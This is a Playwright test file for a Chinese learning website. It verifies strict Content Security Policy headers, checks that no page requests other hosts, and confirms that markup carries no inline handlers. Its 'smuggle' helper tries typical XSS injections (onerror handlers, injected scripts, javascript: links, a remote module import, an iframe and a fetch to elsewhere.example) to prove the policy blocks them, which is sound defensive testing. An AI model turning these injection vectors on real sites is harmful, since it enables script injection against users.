import { createHash } from 'node:crypto';
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import { HEADER_POLICY, META_POLICY } from '../../scripts/headers.mjs';
import { expectVerdict, openDrill, answer, slip } from './support/drill.ts';
import { HTML, TRADITIONAL, VISITED, core, editionOf, htmlOf, isAlone, isForClass } from './support/pages.ts';
import { openRecord } from './support/record.ts';
import { NOTHING, wakeAll, watch } from './support/watch.ts';

for (const path of [...VISITED, ...TRADITIONAL]) {
  test(`${path} has a strict policy, keeps to it and asks no other host for anything${core(path)}`, async ({
    page,
    baseURL,
  }) => {
    const seen = await watch(page, baseURL);
    const response = await page.goto(path);
    expectStrict(response?.headers()['content-security-policy'], (await response?.text()) ?? '');
    await wakeAll(page);
    expect(seen).toEqual(NOTHING);
    if (isForClass(path)) return;
    const way = page.getByRole('link', { name: isAlone(path) ? '到考核页' : /^[隐隱]私[说說]明$/ });
    const to = isAlone(path) ? 'exams/' : 'privacy/';
    await expect(way).toHaveAttribute('href', `${editionOf(path)}${to}`);
  });
}

/** The header repeats what all pages share; scripts and styles are the page's own matter. */
function expectStrict(header: string | undefined, html: string): void {
  expect(header).toBe(HEADER_POLICY);
  const meta = /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
  const directives = new Map(
    meta
      .replaceAll('&#39;', "'")
      .split(';')
      .map((directive) => {
        const [name = '', ...values] = directive.trim().split(/\s+/);
        return [name, values];
      }),
  );
  for (const rule of META_POLICY.filter((one) => !one.startsWith('trusted-types '))) {
    const [name = '', ...values] = rule.split(' ');
    expect(directives.get(name), name).toEqual(values);
  }
  const stage = /<main[^>]*class="deck-page"/.test(html);
  expect(directives.get('trusted-types')).toEqual([
    'own-pages',
    'service-worker',
    ...(stage ? ['default'] : []),
  ]);
  for (const kind of ['script-src', 'style-src']) {
    const values = directives.get(kind) ?? [];
    expect(values.length, kind).toBeGreaterThan(0);
    expect(
      values.filter((value) => value !== "'self'" && !/^'sha256-[\w+/=]+'$/.test(value)),
      kind,
    ).toEqual([]);
  }
  expect(`${header} ${meta}`).not.toMatch(/unsafe-|wasm|https?:|\*/);
}

for (const path of ['/', '/slides/six-ones/']) {
  test(`What is smuggled into ${path} does not run, is not styled and cannot call home`, async ({ page }) => {
    await page.addInitScript(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        seen.push(effectiveDirective);
      });
    });
    await page.goto(path);
    if (path !== '/') await page.keyboard.press('ArrowRight');
    await smuggle(page);
    const seen = (): Promise<string[]> =>
      page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)]);
    for (const directive of ['script-src-elem', 'style-src-attr', 'connect-src', 'frame-src'])
      await expect.poll(seen, directive).toContain(directive);
    await expect.poll(seen).toContain('require-trusted-types-for');
    expect(await page.evaluate(() => 'hurt' in window)).toBe(false);
    await expect(page.locator('#smuggled *')).toHaveCount(0);
  });
}

/** Tries what an injection would try. Whatever throws was stopped; what does not is to be seen in the policy's reports. */
async function smuggle(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const hurt = 'window.hurt = true';
    const box = document.body.appendChild(document.createElement('div'));
    box.id = 'smuggled';
    const make = (name: string, attributes: Record<string, string>): void => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
    };
    const tries: (() => unknown)[] = [
      () => (box.innerHTML = `<img src="x" onerror="${hurt}">`),
      () => new DOMParser().parseFromString(`<script>${hurt}</script>`, 'text/html'),
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- it is what the policy has to stop
      () => setTimeout(hurt),
      () => {
        const script = document.createElement('script');
        script.append(hurt);
        document.body.append(script);
      },
      () => {
        const script = document.createElement('script');
        // A node is no sink of Trusted Types; the other host is one of the policy.
        script.setAttributeNS(null, 'type', 'module');
        script.append('import "https://elsewhere.example/a.js"');
        document.body.append(script);
      },
      () => {
        make('img', { src: 'data:,', onerror: hurt });
      },
      () => {
        make('p', { style: 'position: fixed; inset: 0' });
      },
      () => {
        make('iframe', { src: 'https://elsewhere.example/' });
      },
      () => {
        make('a', { href: `javascript:${hurt}`, id: 'go' });
        document.getElementById('go')?.click();
      },
      () => fetch('https://elsewhere.example/'),
    ];
    for (const attempt of tries) {
      try {
        await attempt();
      } catch {
        // It was stopped.
      }
    }
  });
}

test('Learning, tiles, sound, export and import keep to the policy too', async ({ page, baseURL }) => {
  const seen = await watch(page, baseURL);
  await openRecord(page);
  await page.getByRole('checkbox', { name: '答对、做完、盖章时响一声' }).check();
  await openDrill(page, 'what-service-is', 'service-definition');
  await slip(page, 'service-definition').getByRole('button', { name: '用词牌' }).click();
  await slip(page, 'service-definition').getByRole('button', { name: '要个提示' }).click();
  const sound = page.waitForResponse(/\/cues\.wav$/);
  await answer(page, 'service-definition', '需求');
  await expectVerdict(page, 'service-definition', 'right');
  expect((await sound).ok()).toBe(true);
  await openRecord(page);
  await page.getByRole('button', { name: '导出记录' }).click();
  await page.getByRole('button', { name: '复制成文字' }).click();
  await page.getByRole('button', { name: '添一个人' }).click();
  await expect(page.getByRole('textbox', { name: '名字' })).toBeVisible();
  expect(seen).toEqual(NOTHING);
});

test('No page has a style attribute, a handler in its markup, or anything inline without its hash', () => {
  expect(HTML.length).toBeGreaterThan(0);
  expect(HTML.flatMap((name) => breaches(htmlOf(name)).map((breach) => `${name}: ${breach}`))).toEqual([]);
});

function breaches(html: string): string[] {
  const tags = html.replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1>/g, '').match(/<[a-z][^>]*>/gi) ?? [];
  const inline = [...html.matchAll(/<(script|style)\b(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/\1>/g)];
  return [
    ...tags.filter((tag) => /\s(style|on[a-z]+)\s*=/i.test(tag)),
    ...tags.filter((tag) => /(href|src|action)\s*=\s*["']?\s*javascript:/i.test(tag)),
    ...(inline.length === 0 ? ['nothing inline, not even the start of the theme'] : []),
    ...inline.map(([, , text = '']) => text).filter((text) => !html.includes(`'sha256-${sha256(text)}'`)),
  ];
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('base64');
}
